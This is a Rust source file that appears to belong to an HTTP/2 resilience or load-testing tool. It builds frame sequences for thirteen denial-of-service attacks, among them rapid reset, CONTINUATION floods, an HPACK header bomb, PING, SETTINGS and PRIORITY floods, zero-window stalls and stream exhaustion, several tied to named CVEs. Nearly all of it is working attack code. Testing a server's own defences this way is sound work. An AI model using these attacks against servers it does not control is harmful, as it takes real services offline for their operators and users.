//! Attacks with frames of HTTP/2, the most of them on connections that are made again when they are cut
//! off. Limits they run into are the defaults of an edge.

use std::time::Duration;

use super::{Attack, Door, LARGE, PATH, Reading, repeated};
use crate::frames::{
    CANCEL, CONTINUATION, DATA, HEADERS, PING, PRIORITY, WHOLE, block, frame, get, post, request,
    reset, settings, window,
};

/// All of them.
pub fn over_http2() -> Vec<Attack> {
    vec![
        rapid_resets(),
        provoked_resets(),
        pings(),
        floods_of_settings(),
        priorities(),
        continuations(),
        empty_data(),
        header_bombs(),
        cookie_crumbs(),
        closed_windows(),
        dribbled_windows(),
        half_open_streams(),
        many_streams(),
    ]
}

fn attack(name: &'static str, opening: Vec<u8>) -> Attack {
    Attack::of(name, Door::Http2, opening)
}

/// 1,000 requests on each connection, each given up at once (CVE-2023-44487).
pub fn rapid_resets() -> Attack {
    let piece = |n| [get(2 * n + 1, PATH), reset(2 * n + 1, CANCEL)].concat();
    attack("rapid reset", repeated(1_000, piece))
}

/// 500 requests on each connection, which the other side is made to reset, and something more.
pub fn provoked_resets() -> Attack {
    let piece = |n| [post(2 * n + 1, PATH), window(2 * n + 1, 0x7fff_ffff)].concat();
    let more = frame(PING, 0, 0, b"12345678");
    attack("provoked resets", repeated(500, piece)).with_more(more, Duration::from_millis(100))
}

/// 10,000 PING on each connection.
pub fn pings() -> Attack {
    let ping = frame(PING, 0, 0, b"12345678");
    attack("PING", ping.repeat(10_000))
}

/// 10,000 SETTINGS on each connection.
pub fn floods_of_settings() -> Attack {
    attack("SETTINGS", settings(&[(4, 65_535)]).repeat(10_000))
}

/// 10,000 PRIORITY on each connection.
pub fn priorities() -> Attack {
    let frame = frame(PRIORITY, 0, 1, &[0, 0, 0, 0, 9]);
    attack("PRIORITY", frame.repeat(10_000))
}

/// One header in 10,000 pieces on each connection, half of them empty (CVE-2024-27316).
pub fn continuations() -> Attack {
    let mut opening = frame(HEADERS, 0, 1, &block(&request("GET", PATH)));
    opening.extend(repeated(10_000, |n| {
        frame(CONTINUATION, 0, 1, &vec![0; (n % 2) as usize])
    }));
    attack("CONTINUATION", opening)
}

/// 10,000 empty DATA on each connection.
pub fn empty_data() -> Attack {
    let data = frame(DATA, 0, 1, b"");
    attack("empty DATA", [post(1, PATH), data.repeat(10_000)].concat())
}

/// 50 requests on each connection, of 10 KB that stand for 40 MB of header.
pub fn header_bombs() -> Attack {
    let mut first = block(&request("GET", PATH));
    // A value of 3,900 bytes enters the table.
    first.extend(b"\x40\x01x\x7f\xbd\x1d");
    first.extend(vec![b'a'; 3_900]);
    let mut opening = frame(HEADERS, WHOLE, 1, &first);
    opening.extend(repeated(50, |n| {
        let mut fields = block(&request("GET", PATH));
        fields.extend(vec![0xbe; 10_000]);
        frame(HEADERS, WHOLE, 2 * n + 3, &fields)
    }));
    attack("HPACK bomb", opening)
}

/// 100 requests on each connection with 2,000 cookies each.
pub fn cookie_crumbs() -> Attack {
    let piece = |n| {
        let mut fields = block(&request("GET", PATH));
        fields.extend(b"\x60\x03a=1");
        fields.extend(vec![0xbe; 2_000]);
        frame(HEADERS, WHOLE, 2 * n + 1, &fields)
    };
    let mut attack = attack("cookie crumbs", repeated(100, piece));
    attack.patience = Duration::from_millis(500);
    attack
}

/// 100 requests on each connection for much of which nothing may be sent (CVE-2019-9517).
pub fn closed_windows() -> Attack {
    let requests = repeated(100, |n| get(2 * n + 1, LARGE));
    let mut attack = attack("closed windows", requests).at(5, 10);
    attack.settings = &[(4, 0)];
    attack
}

/// As before, and for half of them one byte may be sent each second.
pub fn dribbled_windows() -> Attack {
    let requests = repeated(100, |n| get(2 * n + 1, LARGE));
    let bytes = repeated(50, |n| window(2 * n + 1, 1));
    let mut attack = attack("dribbled windows", requests).at(5, 10);
    attack.settings = &[(4, 0)];
    attack.with_more(bytes, Duration::from_secs(1))
}

/// 100 requests on each connection whose bodies never come.
pub fn half_open_streams() -> Attack {
    attack(
        "half-open streams",
        repeated(100, |n| post(2 * n + 1, PATH)),
    )
    .at(5, 10)
}

/// 1,000 requests on each connection at once, and nothing is taken of the answers.
pub fn many_streams() -> Attack {
    let requests = repeated(1_000, |n| get(2 * n + 1, LARGE));
    let mut attack = attack("too many streams", requests).at(5, 10);
    attack.reading = Reading::Nothing;
    attack
}
